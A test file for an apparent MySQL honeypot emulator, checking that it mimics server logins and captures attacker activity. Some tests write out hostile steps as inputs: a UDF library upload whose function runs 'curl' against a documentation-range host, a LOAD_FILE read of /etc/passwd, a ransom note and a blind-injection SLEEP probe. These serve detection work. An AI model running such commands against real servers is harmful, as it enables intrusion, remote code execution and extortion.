import { createHash } from 'node:crypto'
import { Readable } from 'node:stream'
import mysql from 'mysql2/promise'
import { afterEach, describe, expect, it } from 'vitest'
import { Identity } from '../../../src/config/identity.ts'
import { loadPersona } from '../../../src/config/personas.ts'
import { nativeProof } from '../../../src/emulators/mysql/authentication.ts'
import lure from '../../../src/emulators/mysql/index.ts'
import { mysqlServers } from '../../../src/host/database/mysql/servers.ts'
import { type Playing, type PlayOptions, play } from '../../harness.ts'
import { FileHosts } from '../file-hosts.ts'
import truth from './truth.json' with { type: 'json' }

let playing: Playing
const clients: mysql.Connection[] = []
afterEach(async () => {
  for (const client of clients.splice(0)) client.destroy()
  await playing.stop()
})

async function serve(given: PlayOptions = {}): Promise<FileHosts> {
  const hosts = new FileHosts()
  playing = await play(lure, { persona: 'plain', prompts: 'test/fixtures/prompts', hosts, ...given })
  return hosts
}

async function logIn(config: mysql.ConnectionOptions = {}): Promise<mysql.Connection> {
  const client = await mysql.createConnection({ host: '127.0.0.1', port: playing.port(), user: 'root', password: 'secret', ...config })
  clients.push(client)
  return client
}

/** Rows of a statement as objects. */
async function rows(client: mysql.Connection, sql: string): Promise<Record<string, unknown>[]> {
  const [result] = await client.query(sql)
  return result as Record<string, unknown>[]
}

const onlyRoot = { login: { policy: 'list', accept: [{ user: 'root', password: 'letmein' }] } }

describe('a login', () => {
  it('is refused in the words of the server, with a hash that hashcat can crack', async () => {
    await serve({ options: onlyRoot })
    await expect(logIn({ password: 'wrong' })).rejects.toMatchObject({
      errno: 1045,
      sqlState: '28000',
      sqlMessage: "Access denied for user 'root'@'127.0.0.1' (using password: YES)",
    })
    const [login] = playing.data<{ hash: { mode: number; line: string }; accepted: boolean }>('login')
    expect(login).toMatchObject({ method: 'mysql-native', username: 'root', accepted: false, hash: { mode: 11200 } })
    const [, scramble, proof] = /^\$mysqlna\$([0-9a-f]{40})\*([0-9a-f]{40})$/.exec(login?.hash.line ?? '') ?? []
    expect(nativeProof('wrong', Buffer.from(scramble as string, 'hex')).toString('hex')).toBe(proof)
  })

  it('is accepted with a password of the policy, and only with it', async () => {
    await serve({ options: onlyRoot })
    const client = await logIn({ password: 'letmein' })
    expect(await rows(client, 'select current_user() u')).toEqual([{ u: 'root@%' }])
    await expect(logIn({ password: '' })).rejects.toMatchObject({
      sqlMessage: "Access denied for user 'root'@'127.0.0.1' (using password: NO)",
    })
  })

  it('shows its password in clear to a MySQL 8, over TLS and without', async () => {
    await serve({ options: { ...onlyRoot, product: 'mysql' } })
    const secure = await logIn({ password: 'letmein', ssl: { rejectUnauthorized: false } })
    expect((await rows(secure, 'select version() v'))[0]?.v).toMatch(/^8\.0\./)
    await logIn({ password: 'letmein' })
    await expect(logIn({ password: 'gue$$' })).rejects.toMatchObject({ errno: 1045 })
    expect(playing.data('login').map((login) => [login.password, login.accepted])).toEqual([
      ['letmein', true],
      ['letmein', true],
      ['gue$$', false],
    ])
  })

  it('tells which client it was', async () => {
    await serve()
    await logIn({ connectAttributes: { program_name: 'sqlmap' } })
    expect(playing.data('mysql.client')[0]).toMatchObject({ attributes: { program_name: 'sqlmap' }, tls: false })
  })

  it('has another challenge and a higher thread on every connection', async () => {
    await serve()
    const greetings = await Promise.all([playing.exchange('', { end: true }), playing.exchange('', { end: true })])
    const [a, b] = greetings as [Buffer, Buffer]
    expect(a.toString('latin1', 5, 37)).toBe(Buffer.from(truth.greeting, 'hex').toString('latin1', 5, 37))
    expect(a.subarray(42, 50)).not.toEqual(b.subarray(42, 50))
    expect(Math.abs(a.readUInt32LE(38) - b.readUInt32LE(38))).toBe(1)
  })
})

describe('the database', () => {
  it('answers a driver: rows, prepared statements, several statements', async () => {
    await serve()
    const client = await logIn({ multipleStatements: true, database: 'shop' })
    const [customer] = await rows(client, 'SELECT * FROM customers WHERE id = 1')
    expect(customer).toMatchObject({ id: 1, email: expect.stringContaining('@') })
    expect(customer?.created_at).toBeInstanceOf(Date)
    const [prepared] = await client.execute('SELECT name, price, stock FROM products WHERE price > ? AND id < ? ORDER BY id', [20, 6])
    expect((prepared as unknown[]).length).toBeGreaterThan(0)
    const [both] = await client.query('SELECT 1 a; SELECT 2 b')
    expect(both).toEqual([[{ a: 1 }], [{ b: 2 }]])
    const [done] = await client.execute('INSERT INTO settings (name, value) VALUES (?, ?)', ['x', 'y'])
    expect(done).toMatchObject({ affectedRows: 1 })
  })

  it('has the same rows after a restart, and others in another install', async () => {
    await serve()
    const first = await rows(await logIn({ database: 'shop' }), 'SELECT name, email FROM customers LIMIT 5')
    await playing.stop()
    await serve()
    expect(await rows(await logIn({ database: 'shop' }), 'SELECT name, email FROM customers LIMIT 5')).toEqual(first)
  })

  it('loses to a ransomer what he drops, keeps his note, and lets nobody else see it', async () => {
    await serve({ settings: { listen: { offset: 0, trustedProxies: ['127.0.0.1'] } } })
    const client = await logIn({ multipleStatements: true })
    await client.query('DROP DATABASE shop')
    await client.query(
      "CREATE DATABASE README; CREATE TABLE README.note (t TEXT); INSERT INTO README.note VALUES ('send 0.01 BTC to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq, write to pay@mailhost.example')",
    )
    expect((await rows(client, 'SHOW DATABASES')).map((row) => row.Database)).toEqual([
      'README',
      'information_schema',
      'mysql',
      'performance_schema',
      'sys',
    ])
    expect(playing.data('mysql.destroyed')).toMatchObject([{ what: 'database', name: 'shop' }])
    const indicators = playing.data('indicator').map(({ kind, value }) => `${kind} ${value}`)
    expect(indicators).toContain('wallet bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq')
    expect(indicators).toContain('email pay@mailhost.example')
    expect(await rows(await logIn(), 'SELECT t FROM README.note')).toHaveLength(1)
  })

  it('takes a library, and lets its function run a command on the simulated host', async () => {
    const hosts = await serve()
    const client = await logIn({ database: 'mysql' })
    const library = Buffer.from('7f454c460201010000', 'hex')
    await client.query(`SELECT 0x${library.toString('hex')} INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'`)
    await client.query("CREATE FUNCTION sys_eval RETURNS string SONAME 'udf.so'")
    const [answer] = await rows(client, "SELECT sys_eval('curl http://203.0.113.9/x.sh') AS out_")
    expect(answer?.out_).toBe('ran curl http://203.0.113.9/x.sh as mysql\n')
    expect(hosts.files.get('/usr/lib/mysql/plugin/udf.so')).toEqual(library)
    const [written] = playing.data<{ sha256: string }>('mysql.file-write')
    expect(written).toMatchObject({
      path: '/usr/lib/mysql/plugin/udf.so',
      how: 'dumpfile',
      written: true,
      sha256: createHash('sha256').update(library).digest('hex'),
    })
    expect(playing.artifacts.kept.get(written?.sha256 as string)).toEqual(library)
    expect(playing.data('mysql.library')).toEqual([{ name: 'sys_eval', library: 'udf.so' }])
    expect(playing.data('mysql.host-command')).toMatchObject([{ command: 'curl http://203.0.113.9/x.sh' }])
    expect(playing.data('indicator')).toContainEqual({ kind: 'url', value: 'http://203.0.113.9/x.sh', how: 'mysql.host-command' })
  })

  it('reads a file of the host, and asks a client for its own', async () => {
    await serve()
    const client = await logIn({ database: 'shop' })
    expect((await rows(client, "SELECT LOAD_FILE('/etc/passwd') f"))[0]?.f).toContain('root:x:0:0')
    expect(playing.data('mysql.file-read')).toEqual([{ path: '/etc/passwd', found: true }])
    await client.query({
      sql: "LOAD DATA LOCAL INFILE '/home/me/list.txt' INTO TABLE settings",
      infileStreamFactory: () => stream('k1\tv1\nk2\tv2\n'),
    })
    expect(await rows(client, "SELECT value FROM settings WHERE name IN ('k1','k2') ORDER BY name")).toEqual([
      { value: 'v1' },
      { value: 'v2' },
    ])
    expect(playing.data('mysql.local-file')).toMatchObject([{ path: '/home/me/list.txt', bytes: 12 }])
  })

  it('waits for SLEEP, so that a blind injection sees its time', async () => {
    await serve()
    const client = await logIn({ database: 'shop' })
    const startedAt = performance.now()
    await client.query('SELECT IF(1=1, SLEEP(0.3), 0)')
    expect(performance.now() - startedAt).toBeGreaterThan(290)
    await client.query('SELECT IF(1=2, SLEEP(20), 0)')
    expect(performance.now() - startedAt).toBeLessThan(5000)
  })

  it('writes every statement down as a turn', async () => {
    await serve()
    const client = await logIn()
    await client.query('SELECT 1 AS one')
    await expect(client.query('SELECT nosuch')).rejects.toMatchObject({ errno: 1054 })
    expect(playing.data('turn').map(({ input, output }) => [input, output])).toEqual([
      ['SELECT 1 AS one', 'one\n1\n'],
      ['SELECT nosuch', "ERROR 1054 (42S22): Unknown column 'nosuch' in 'SELECT'"],
    ])
  })
})

describe('bytes that are no MySQL', () => {
  it('are answered as the server answers them', async () => {
    await serve()
    const answer = await playing.exchange(Buffer.from('030000018500ff', 'hex'), { end: true })
    expect(answer.subarray(answer.readUIntLE(0, 3) + 4).toString('latin1')).toContain('#08S01Bad handshake')
    expect(playing.data('lure.fault')).toEqual([])
  })
})

function stream(text: string): Readable {
  return Readable.from([Buffer.from(text)])
}

it('shares its databases with the client of the simulated host', async () => {
  const identity = new Identity(Buffer.alloc(32, 5))
  await serve({ identity })
  const client = await logIn()
  await client.query('DROP TABLE shop.customers')
  const { catalog } = mysqlServers(identity, 'mariadb').of(loadPersona('test/fixtures/prompts', 'plain', identity), '127.0.0.1')
  expect(catalog.database('shop')?.find('', 'customers', (name) => name)).toBeUndefined()
  expect(catalog.database('shop')?.find('', 'orders', (name) => name)).toBeDefined()
})
